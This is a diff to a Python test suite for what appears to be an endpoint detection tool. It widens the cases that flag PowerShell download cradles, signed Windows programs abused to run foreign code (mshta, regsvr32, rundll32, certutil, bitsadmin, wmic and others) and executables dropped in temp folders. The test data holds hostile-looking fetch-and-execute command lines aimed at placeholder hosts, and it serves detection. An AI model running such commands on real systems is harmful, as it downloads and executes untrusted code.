@@ -86,7 +86,12 @@ def test_a_server_on_linux_starts_a_shell():
 @pytest.mark.parametrize(
     ("text", "told"),
     [
-        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", True),
+        ("IEX $a", True),
+        ("Invoke-Expression $a", True),
+        ("New-Object Net.WebClient", True),
+        ("$c.DownloadString($u)", True),
+        ("$c.DownloadFile($u, 'a')", True),
+        ("Invoke-WebRequest http://x", True),
         ("$c.DownloadData($u)", True),
         ("[Convert]::FromBase64String($a)", True),
         ("iwr http://x -OutFile y", True),
@@ -151,32 +156,50 @@ def test_a_cradle_names_the_powershell_that_ran_it(path, tool, trusted):
 
 
 @pytest.mark.parametrize(
-    ("program", "bad", "good"),
+    ("program", "command", "is_foreign"),
     [
-        ("mshta.exe", "mshta vbscript:x", "mshta C:\\Apps\\start.hta"),
-        (
-            "regsvr32.exe",
-            "regsvr32 /s /u /i:http://x/a.sct scrobj.dll",
-            "regsvr32 /s C:\\Windows\\System32\\msxml6.dll",
-        ),
-        (
-            "rundll32.exe",
-            "rundll32 \\\\10.1.1.1\\share\\a.dll,Run",
-            "rundll32 C:\\Windows\\System32\\shell32.dll,Control",
-        ),
-        ("certutil.exe", "certutil /urlcache -f http://x/a", "certutil -store my"),
-        ("bitsadmin.exe", "bitsadmin /transfer j http://x C:\\a", "bitsadmin /list"),
-        ("msbuild.exe", "msbuild C:\\Users\\ana\\AppData\\a.xml", "msbuild D:\\src\\a.csproj"),
-        ("wmic.exe", "wmic process call create calc", "wmic cpu get name"),
-        ("cmstp.exe", "cmstp /s C:\\a.inf", "cmstp C:\\a.inf"),
-        ("installutil.exe", "installutil /logfile= /u C:\\a.dll", "installutil C:\\a.dll"),
+        ("mshta.exe", "mshta vbscript:x", True),
+        ("mshta.exe", "mshta javascript:x", True),
+        ("mshta.exe", "mshta https://x/a.hta", True),
+        ("mshta.exe", "mshta C:\\Apps\\start.hta", False),
+        ("regsvr32.exe", "regsvr32 /s /u /i:http://x/a.sct a.dll", True),
+        ("regsvr32.exe", "regsvr32 /s scrobj.dll", True),
+        ("regsvr32.exe", "regsvr32 /s /i:x C:\\Windows\\System32\\msxml6.dll", False),
+        ("rundll32.exe", "rundll32 \\\\10.1.1.1\\share\\a.dll,Run", True),
+        ("rundll32.exe", "rundll32 javascript:x", True),
+        ("rundll32.exe", "rundll32 a.dll,OpenURL http://x", True),
+        ("rundll32.exe", "rundll32 C:\\Windows\\System32\\shell32.dll,Control", False),
+        ("certutil.exe", "certutil /urlcache -f http://x/a", True),
+        ("certutil.exe", "certutil -decode a b", True),
+        ("certutil.exe", "certutil -verifyctl x", True),
+        ("certutil.exe", "certutil -store my", False),
+        ("bitsadmin.exe", "bitsadmin /transfer j http://x C:\\a", True),
+        ("bitsadmin.exe", "bitsadmin /addfile j http://x C:\\a", True),
+        ("bitsadmin.exe", "bitsadmin /list", False),
+        ("msbuild.exe", "msbuild C:\\Users\\ana\\AppData\\a.xml", True),
+        ("msbuild.exe", "msbuild D:\\src\\a.csproj", False),
+        ("wmic.exe", "wmic process call create calc", True),
+        ("wmic.exe", 'wmic os get /format:"https://x/a.xsl"', True),
+        ("wmic.exe", "wmic cpu get name /format:csv", False),
+        ("cmstp.exe", "cmstp /s C:\\a.inf", True),
+        ("cmstp.exe", "cmstp /ni C:\\a", True),
+        ("cmstp.exe", "cmstp C:\\a.inf", False),
+        ("installutil.exe", "installutil /u C:\\a.dll", True),
+        ("installutil.exe", "installutil /logfile= C:\\a.dll", True),
+        ("installutil.exe", "installutil /logfile=a.log C:\\a.dll", False),
     ],
 )
-def test_a_signed_program_is_told_to_run_foreign_code(program, bad, good):
-    assert found(launch(0, SYSTEM32 + program.upper(), bad)) == ["signed-proxy-execution suspicious L1-1"]
-    assert found(launch(0, SYSTEM32 + program, good)) == []
-    assert found(launch(0, INSTALLED, bad)) == []
-    assert set(execution.PROXY_ARGUMENTS) >= {program}
+def test_a_signed_program_is_told_to_run_foreign_code(program, command, is_foreign):
+    expected = ["signed-proxy-execution suspicious L1-1"] * is_foreign
+
+    assert found(launch(0, SYSTEM32 + program.upper(), command)) == expected
+    assert found(launch(0, INSTALLED, command)) == []
+
+
+def test_every_signed_program_was_tried():
+    names = "mshta regsvr32 rundll32 certutil bitsadmin msbuild wmic cmstp installutil"
+
+    assert list(execution.PROXY_ARGUMENTS) == [f"{name}.exe" for name in names.split()]
 
 
 @pytest.mark.parametrize(
@@ -211,6 +234,9 @@ def test_a_file_is_dropped_and_run(rows, expected):
         ("C:/Users/ana/Downloads/evil.exe", True),
         ("C:\\ProgramData\\x\\evil.exe", True),
         ("C:\\Windows\\Temp\\evil.exe", True),
+        ("C:\\Windows\\Tasks\\evil.exe", True),
+        ("C:\\PerfLogs\\evil.exe", True),
+        ("C:\\$Recycle.Bin\\S-1\\evil.exe", True),
         ("C:\\temp\\evil.exe", True),
         ("%APPDATA%\\evil.exe", True),
         ("/home/ana/evil", True),
